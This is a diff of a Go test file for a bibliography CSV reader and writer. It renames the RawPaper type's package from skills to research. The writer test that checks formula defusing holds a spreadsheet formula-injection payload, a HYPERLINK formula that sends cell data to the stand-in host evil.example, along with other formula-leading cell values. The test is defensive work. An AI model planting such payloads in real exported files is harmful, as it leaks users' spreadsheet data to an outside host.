@@ -18,7 +18,7 @@ import (
 	"quarry/internal/biblio/biblitest"
 	"quarry/internal/biblio/csvfile"
 	"quarry/internal/fault"
-	"quarry/internal/skills"
+	"quarry/internal/research"
 )
 
 // format is Quarry CSV for the shared harness. Keywords share one cell
@@ -65,7 +65,7 @@ func TestReaderScopus(t *testing.T) {
 	require.Len(t, recs, 4)
 	require.Equal(t, biblio.Record{
 		Line: 2,
-		Paper: skills.RawPaper{
+		Paper: research.RawPaper{
 			ID: "doi:10.1186/s13054-018-1999-1", Title: "Sepsis bundles in the intensive care unit: a cohort study",
 			Authors: []string{"Ana Müller", "Jörg-Peter Schäfer"}, Year: 2018, Venue: "Critical Care",
 			Volume: "22", Issue: "1", Pages: "101-109",
@@ -280,9 +280,9 @@ func TestWriterDefusesFormulas(t *testing.T) {
 	t.Parallel()
 	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 	recs := []biblio.Record{
-		{Paper: skills.RawPaper{Title: evil, Venue: "@handle", Pages: "-5", Abstract: "+1\nsecond line"}, Note: "\t=tab first"},
-		{Paper: skills.RawPaper{Title: "'=already quoted by hand", Authors: []string{"=SUM(A1:A9)"}}, Note: "''+two apostrophes"},
-		{Paper: skills.RawPaper{Title: "'Tis the season", Venue: "'"}, Note: "''"},
+		{Paper: research.RawPaper{Title: evil, Venue: "@handle", Pages: "-5", Abstract: "+1\nsecond line"}, Note: "\t=tab first"},
+		{Paper: research.RawPaper{Title: "'=already quoted by hand", Authors: []string{"=SUM(A1:A9)"}}, Note: "''+two apostrophes"},
+		{Paper: research.RawPaper{Title: "'Tis the season", Venue: "'"}, Note: "''"},
 	}
 	for i := range recs {
 		biblio.Finish(&recs[i])
